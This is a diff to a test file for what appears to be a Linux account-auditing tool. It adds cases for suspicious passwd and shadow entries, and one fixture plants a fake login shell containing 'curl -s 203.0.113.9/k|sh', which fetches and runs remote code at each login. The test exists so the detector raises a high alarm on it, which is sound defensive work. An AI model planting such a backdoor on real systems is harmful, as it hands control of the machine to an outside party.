@@ -79,6 +79,9 @@ describe('signs in accounts', () => {
 		['a name like root', planted({ passwd: 'r00t:x:1010:1000::/home/e:/bin/bash\n', shadow: 'r00t:!:20000::::::\n' }), ['medium r00t']],
 		['a person with the name of a service', planted({ passwd: 'systemd-udevd:x:1010:1000::/home/e:/bin/bash\n', shadow: 'systemd-udevd:!:20000::::::\n' }), ['medium systemd-udevd']],
 		['a service in sudo', { ...debianServer, '/etc/group': text('/etc/group').replace('sudo:x:27:ann,bob', 'sudo:x:27:ann,www-data') }, ['high www-data', 'low /etc/gshadow']],
+		['a password kept by DES', shadowWith('bob', 'ab01FAX.bQRSU'), ['medium bob']],
+		['a person at home everywhere', planted({ passwd: 'eve:x:1010:1000::/:/bin/bash\n', shadow: 'eve:!:20000::::::\n' }), ['medium eve']],
+		['a shell that is a script of nobody knows whom', planted({ passwd: 'eve:x:1010:1000::/home/eve:/usr/local/bin/rbash2\n', shadow: 'eve:!:20000::::::\n' }, { '/usr/local/bin/rbash2': { content: '#!/bin/sh\n(curl -s 203.0.113.9/k|sh) &\nexec /bin/bash "$@"\n', mode: 0o755 } }), ['high eve']],
 		['a line without a name', planted({ passwd: ':x:1010:1000::/home/e:/bin/bash\n' }), ['high ', 'low /etc/shadow']],
 	])('%s', (_name, machine, expected) => {
 		expect(alarms(machine).filter(line => line !== 'low backupper').slice(0, expected.length)).toEqual(expected);
